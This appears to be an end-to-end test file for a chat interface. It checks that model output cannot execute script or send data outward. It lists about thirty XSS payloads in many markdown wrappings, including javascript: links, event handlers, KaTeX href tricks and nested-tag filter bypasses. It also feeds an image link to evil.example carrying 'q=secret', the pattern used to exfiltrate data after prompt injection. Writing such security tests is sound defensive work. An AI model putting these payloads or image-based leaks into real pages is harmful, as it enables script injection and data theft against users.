import { answer, ask, button } from '../chat';
import { expect, test } from '../fixtures';

// Each is tried in each wrapping: what a model (or whoever spoke through it) could hope to run in the reader's page.
const PAYLOADS = [
  '<script>XSS</script>',
  '<img src=x onerror="XSS">',
  '<svg onload="XSS">',
  '<svg><animate onbegin="XSS" attributeName=x></svg>',
  '<iframe srcdoc="<script>parent.XSS</script>"></iframe>',
  '<iframe src="javascript:parent.XSS"></iframe>',
  '<body onload="XSS">',
  '<input autofocus onfocus="XSS">',
  '<details open ontoggle="XSS">',
  '<video><source onerror="XSS"></video>',
  '<object data="javascript:XSS"></object>',
  '<math><mtext><script>XSS</script></mtext></math>',
  '<style>@import "javascript:XSS"</style>',
  '<base href="https://evil.example/">',
  '<form action="javascript:XSS"><button autofocus>x</button></form>',
  '<a href="javascript:XSS">x</a>',
  '[x](javascript:XSS)',
  '[x](JaVaScRiPt:XSS)',
  '[x](java\tscript:XSS)',
  '[x](data:text/html,<script>XSS</script>)',
  '[x](vbscript:XSS)',
  '![x](javascript:XSS)',
  '![x" onerror="XSS](x)',
  '<javascript:XSS>',
  '[x]: javascript:XSS\n\n[x]',
  '`<script>XSS</script>`',
  '$$\\href{javascript:XSS}{x}$$',
  '$$\\htmlData{x=<img src=x onerror=XSS>}{x}$$',
  '&lt;script&gt;XSS&lt;/script&gt;',
  '<scr<script>ipt>XSS</scr</script>ipt>',
];
const WRAPPINGS = [
  (payload: string) => payload,
  (payload: string) => `> ${payload}`,
  (payload: string) => `- ${payload}`,
  (payload: string) => `| a |\n| - |\n| ${payload.replaceAll('\n', ' ')} |`,
  (payload: string) => `**${payload}**`,
  (payload: string) => `# ${payload}`,
  (payload: string) => `\`\`\`html\n${payload}\n\`\`\``,
];

test('nothing that a model writes is run in the page', async ({ page, person: _, words, language, upstream }) => {
  const act = 'window.wasRun=true';
  const text = WRAPPINGS.flatMap((wrap) => PAYLOADS.map((payload) => wrap(payload.replaceAll('XSS', act)))).join(
    '\n\n',
  );
  await upstream.script({ pieces: [text, '\n\nThe end.'] });
  await page.goto(`/${language}/chat/`);
  await ask(page, words, 'Attack');
  await expect(answer(page, words)).toContainText('The end.');
  await expect(button(page, words, 'receipt')).toBeVisible();
  const links = await answer(page, words).locator('a').all();
  const targets = await Promise.all(links.map((link) => link.getAttribute('href')));
  expect(targets.filter((target) => !/^(https?:|mailto:)/i.test(target ?? ''))).toEqual([]);
  expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
  await expect(answer(page, words).locator('script, iframe, object, form, svg[onload], style, base')).toHaveCount(0);
});

test('a picture that a model names is not fetched', async ({ page, person: _, words, language, upstream }) => {
  const abroad: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).hostname === 'evil.example') abroad.push(request.url());
  });
  await upstream.script({
    pieces: ['![chart](https://evil.example/?q=secret)\n\n<img src="https://evil.example/2">\n\nDone.'],
  });
  await page.goto(`/${language}/chat/`);
  await ask(page, words, 'Show me');
  await expect(answer(page, words)).toContainText('Done.');
  await expect(answer(page, words).getByRole('link', { name: 'chart' })).toBeVisible();
  await page.waitForLoadState('networkidle');
  expect(abroad).toEqual([]);
});
